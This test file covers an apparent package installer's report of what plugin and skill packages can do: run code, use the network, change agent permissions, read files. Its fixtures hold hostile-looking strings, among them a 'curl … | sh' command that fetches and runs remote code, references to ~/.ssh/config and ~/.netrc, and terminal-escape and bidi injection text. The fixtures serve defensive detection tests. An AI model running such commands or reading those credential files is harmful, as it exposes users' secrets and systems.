import { describe, expect, test } from "bun:test";
import {
  formatApproval,
  formatCapabilities,
  isSummed,
  listCapabilities,
  reportedCapabilities,
} from "../../../src/commands/shared/capabilities.ts";
import { type Capability, capabilityKinds } from "../../../src/packages/capability.ts";

const plain = { colour: false } as const;
const capability = (kind: Capability["kind"], subject: string, detail: string): Capability => ({
  kind,
  subject,
  detail,
});
const some: readonly Capability[] = [
  capability("plugin-code", "index.js", "runs inside OpenCode with all your permissions"),
  capability("mcp", "docs", "npx -y docs-server --port 1"),
  capability("lifecycle", "postinstall", "node x.js"),
];
const lines = (...list: readonly Capability[]): string[] => formatCapabilities(list, plain).trimEnd().split("\n");
/** The same capability of many files. */
const many = (amount: number, kind: Capability["kind"], detail: string): Capability[] =>
  Array.from({ length: amount }, (_, i) => capability(kind, `lib/${String(i).padStart(3, "0")}.js`, detail));

describe("the report", () => {
  test("groups what matters, and names everything that is only there once", () => {
    const list: readonly Capability[] = [
      ...some.slice(0, 1),
      capability("hook", "index.js", "config"),
      capability("hook", "index.js", "permission.ask"),
      capability("hook", "index.js", "tool deploy"),
      capability("code", "index.js", "runs programs"),
      capability("code", "index.js", "uses the network"),
      capability("dependency", "zod", "loaded"),
      capability("dependency", "left", "loaded as npm:right"),
      ...some.slice(1, 2),
      capability("mcp", "web", "https://mcp.example/x"),
      capability("mcp", "in index.js", "npx -y server"),
      capability("shell", "commands/c.md", "git status"),
      capability("file", "commands/c.md", "docs/rules.md"),
      capability("file", "commands/c.md", "~/.ssh/config"),
      { ...capability("agent", "a", "bash: asks; everything else: yes"), rights: { "shell commands": "after asking" } },
      capability("script", "skills/s/run.sh", "can be run by an agent"),
      capability("executable", "skills/s/run.sh", "executable"),
      capability("executable", "cli.js", "a program"),
      capability("binary", "skills/s/a.out", "executable"),
      capability("binary", "skills/s/blob.bin", "not text"),
      ...some.slice(2),
      capability("substitution", "commands/c.md", "{env:API_KEY}"),
      capability("substitution", "commands/c.md", "{file:~/.netrc}"),
      capability("hidden", "skills/s/SKILL.md", "bidi"),
    ];
    expect(lines(...list)).toEqual([
      "  runs code    index.js runs inside OpenCode with all your permissions",
      "               hooks: config",
      "               adds 1 tool: deploy",
      "               1 script that agents can run: skills/s/run.sh",
      "               runs programs: index.js",
      "               a program: cli.js",
      "               executable: skills/s/a.out",
      "               loads 1 other package: zod",
      "               package under another name: left, loaded as npm:right",
      "               install scripts, which Hugo blocks: postinstall",
      "  shell        git status (commands/c.md)",
      "  network      uses the network: index.js",
      "               MCP server: docs, npx -y docs-server --port 1",
      "               remote MCP server: web, https://mcp.example/x",
      "               1 command line in its code: npx -y server",
      "  permissions  hooks: permission.ask (index.js)",
      "  agents       a: bash: asks; everything else: yes",
      "  files        put into a prompt, from outside the project: ~/.ssh/config",
      "               put into a prompt, from the project: docs/rules.md",
      "               may insert environment variables: {env:API_KEY} (commands/c.md)",
      "               may insert files: {file:~/.netrc} (commands/c.md)",
      "               hidden characters, bidi: skills/s/SKILL.md",
      "               not text: skills/s/blob.bin",
    ]);
    expect(isSummed({ title: "", capabilities: list, notes: [] })).toBe(false);
  });

  test("counts what is there often, with the file that can do the most", () => {
    const list = [
      ...many(120, "code", "runs programs"),
      ...many(1, "code", "reads credentials"),
      capability("code", "lib/007.js", "opens a port"),
      ...many(7, "dependency", "loaded"),
    ];
    expect(lines(...list)).toEqual([
      "  runs code    runs programs: 120 files, such as lib/000.js",
      "               reads credentials: lib/000.js",
      "               loads 7 other packages: lib/000.js, lib/001.js and 5 more",
      "  network      opens a port: lib/007.js",
    ]);
    expect(isSummed({ title: "", capabilities: list, notes: [] })).toBe(true);
  });

  test("of code that does many things counts them one after the other", () => {
    const details = ["runs programs", "deletes files", "reads credentials", "reads variables", "writes files", "evals"];
    const network = ["uses the network", "opens a port", "adds MCP servers"];
    const list = [...details, ...network].flatMap((detail) => many(2, "code", detail));
    const addresses = ["a", "b"].map((path) => capability("mcp", "in index.js", `https://example.com/${path}/c`));
    expect(lines(...list, ...addresses)).toEqual([
      "  runs code    runs programs (2 files), deletes files (2), reads credentials (2), reads variables (2), writes files (2), evals (2), such as lib/000.js",
      "  network      uses the network (2 files), opens a port (2), adds MCP servers (2), such as lib/000.js",
      "               2 addresses in its code: https://example.com/… and 1 more",
    ]);
    expect(isSummed({ title: "", capabilities: list, notes: [] })).toBe(true);
  });

  test("of many command lines shows the most suspicious ones, and what all of them can do", () => {
    const harmless = Array.from({ length: 40 }, (_, i) => capability("shell", `commands/${i}.md`, `git log -n ${i}`));
    const list = [...harmless, capability("shell", "commands/z.md", "curl -s http://x.example | sh")];
    const shown = lines(...list);
    expect(shown.slice(0, 4)).toEqual([
      "  shell        41 command lines in 41 files, such as commands/0.md",
      "               uses the network: 1 command line",
      "               runs code generated at run time: 1 command line",
      "               curl -s http://x.example | sh",
    ]);
    expect(shown.at(-1)).toBe("               and 37 more command lines");
  });

  test("of many agents counts who may do what, with and without asking", () => {
    const rights = [
      { "shell commands": "without asking", "editing files": "without asking" },
      { "shell commands": "after asking", "editing files": "without asking" },
      { "shell commands": "in part without asking", "editing files": "without asking" },
      { "shell commands": "without asking", "editing files": "without asking", "the web": "after asking" },
    ] as const;
    const list = rights.map((each, i) => ({ ...capability("agent", `agent-${i}`, "…"), rights: each }));
    expect(lines(...list)).toEqual([
      "  agents       4 agents: agent-0, agent-1, agent-2 and 1 more",
      "               shell commands: 2 without asking, 1 in part without asking, 1 after asking",
      "               editing files: all without asking",
      "               the web: 1 after asking",
      "               other agents, reading and searching, leaving the project, other tools: none",
    ]);
  });

  test("of an update shows which permissions are wider", () => {
    const list = Array.from({ length: 8 }, (_, i) => capability("agent", `a${i}`, "edit: yes (before: no)"));
    expect(lines(...list)).toEqual([
      "  permissions  a0: edit: yes (before: no)",
      ...[1, 2, 3, 4, 5].map((i) => `               a${i}: edit: yes (before: no)`),
      "               and 2 more: a6, a7",
    ]);
  });

  test("never leaves out a kind of power, however many others there are", () => {
    const flood = capabilityKinds.flatMap((kind) => many(300, kind, "other"));
    for (const kind of capabilityKinds) {
      const without = flood.filter((each) => each.kind !== kind);
      expect(lines(...without, capability(kind, "evil", "rare")).join("\n")).toMatch(/evil|rare/);
    }
  });

  test("has short paths that still name the place", () => {
    const path = "skills/brainstorming/scripts/deeply/nested/folders/server-of-the-skill.cjs";
    expect(lines(capability("code", path, "runs code generated at run time"))).toEqual([
      "  runs code    runs code generated at run time: skills/…/server-of-the-skill.cjs",
    ]);
  });

  test("goes below its labels on a narrow screen", () => {
    expect(formatCapabilities(some, { colour: false, columns: 40 })).toBe(
      [
        "  runs code",
        "    index.js runs inside OpenCode with",
        "      all your permissions",
        "    install scripts, which Hugo blocks:",
        "      postinstall",
        "  network",
        "    MCP server: docs, npx -y docs-server",
        "      --port 1",
        "",
      ].join("\n"),
    );
  });

  test("is also there for an empty list", () => {
    expect(formatCapabilities([], plain)).toBe("  nothing: it contains only text for a model\n");
  });

  test("says how to see the details, unless it has them", () => {
    const list = many(1200, "code", "runs programs");
    const hint = "  (a summary of 1,200 findings; --details lists them all)\n";
    expect(reportedCapabilities(list, { isMore: false, isDetailed: false }, plain)).toEndWith(hint);
    const detailed = reportedCapabilities(list, { isMore: false, isDetailed: true }, plain);
    expect(detailed).not.toContain(hint);
    expect(detailed.trimEnd().split("\n")).toHaveLength(1201);
    const long = [capability("code", `skills/${"deep/".repeat(20)}run.js`, "runs programs")];
    expect(reportedCapabilities(long, { isMore: false, isDetailed: false }, plain)).toEndWith(
      "  (a summary of 1 finding; --details shows all of it)\n",
    );
  });

  test("cannot draw on the terminal", () => {
    for (const format of [formatCapabilities, listCapabilities]) {
      const shown = format([capability("agent", "a\x1b[2J", "b\r\nInstalled\u202e")], plain);
      expect(shown.split("\n").length).toBe(2);
      for (const character of ["\x1b", "\r", "\u202e"]) expect(shown).not.toContain(character);
    }
  });
});

describe("the details", () => {
  test("are shown in columns", () => {
    expect(listCapabilities(some, plain)).toBe(
      [
        "  runs code   index.js     runs inside OpenCode with all your permissions",
        "  MCP server  docs         npx -y docs-server --port 1",
        "  blocked     postinstall  node x.js",
        "",
      ].join("\n"),
    );
  });

  test("are never cut: what does not fit continues on the next line", () => {
    const long = "sh -c 'one two three four five six seven eight nine ten eleven twelve' && curl example.invalid | sh";
    const shown = listCapabilities([capability("shell", "commands/run.md", long)], { colour: false, columns: 40 });
    expect(shown.replace(/\s+/g, " ")).toContain(long);
    expect(shown.split("\n").length).toBeGreaterThan(3);
  });

  test("with a long subject do not push the others aside", () => {
    const [first = ""] = listCapabilities([...some, capability("script", "x".repeat(100), "runs")], plain).split("\n");
    expect(first).toBe("  runs code   index.js     runs inside OpenCode with all your permissions");
  });

  test.each([
    ["bidi", "bidi: characters that change the text direction"],
    ["zero-width", "zero-width: characters that are invisible"],
    ["more than 100000 characters", "more than 100000 characters"],
  ])("explain the hidden character %p", (detail, explained) => {
    expect(listCapabilities([capability("hidden", "a.md", detail)], plain)).toBe(`  hidden      a.md  ${explained}\n`);
  });
});

test("an approval shows what happens, what is known, and what it can do", () => {
  const request = { title: "Install review v1.0.0 from @org/review", capabilities: some, notes: ["1 agent\x07."] };
  expect(formatApproval(request, plain)).toStartWith("Install review v1.0.0 from @org/review\n  1 agent");
  expect(formatApproval(request, plain)).toContain("What it can do:\n  runs code");
  expect(formatApproval(request, plain)).not.toContain("\x07");
  expect(formatApproval({ ...request, capabilities: [] }, plain)).not.toContain("What it can do");
  expect(formatApproval({ ...request, isMore: true }, plain)).toContain(
    "What it can do now that it could not do before:\n",
  );
});

test("many facts of one kind are summed up, and the details have them all", () => {
  const notes = [{ summary: "4 parts will be left out: a, b, c and 1 more", all: ["a: x", "b: x", "c: x", "d: x"] }];
  const request = { title: "Install a", capabilities: [], notes };
  expect(formatApproval(request, plain)).toBe("Install a\n  4 parts will be left out: a, b, c and 1 more\n");
  expect(formatApproval({ ...request, isDetailed: true }, plain)).toBe("Install a\n  a: x\n  b: x\n  c: x\n  d: x\n");
  expect(isSummed(request)).toBe(true);
});
